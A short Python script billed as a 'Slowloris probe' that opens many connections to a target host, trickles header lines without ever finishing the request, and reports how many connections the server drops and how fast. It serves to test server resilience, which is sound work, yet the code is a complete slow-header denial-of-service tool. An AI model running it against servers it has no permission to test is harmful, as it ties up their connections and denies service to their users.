"""Slowloris probe: open many connections that send their headers a line at a time,
slowly, and report how many the server cut off and how quickly."""
import socket, sys, time

host, port, count, duration = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
socks = []
for _ in range(count):
    try:
        s = socket.create_connection((host, port), timeout=2)
        s.sendall(b"GET / HTTP/1.1\r\nHost: bench\r\n")
        s.setblocking(False)
        socks.append([s, time.time(), None])
    except OSError:
        pass
opened = len(socks)
start = time.time()
while time.time() - start < duration:
    for entry in socks:
        s, t0, closed = entry
        if closed is not None:
            continue
        try:
            data = s.recv(4096)
            if data == b"" or data:
                entry[2] = time.time() - t0
                continue
        except BlockingIOError:
            pass
        except OSError:
            entry[2] = time.time() - t0
            continue
        try:
            s.send(b"X-Slow: 1\r\n")  # one more header line, never the blank line
        except OSError:
            entry[2] = time.time() - t0
    time.sleep(1.0)
cut = [e[2] for e in socks if e[2] is not None]
print(f"SLOWLORIS opened={opened} cut_off={len(cut)} "
      f"median_s={sorted(cut)[len(cut)//2] if cut else -1:.1f} still_open={opened-len(cut)}")
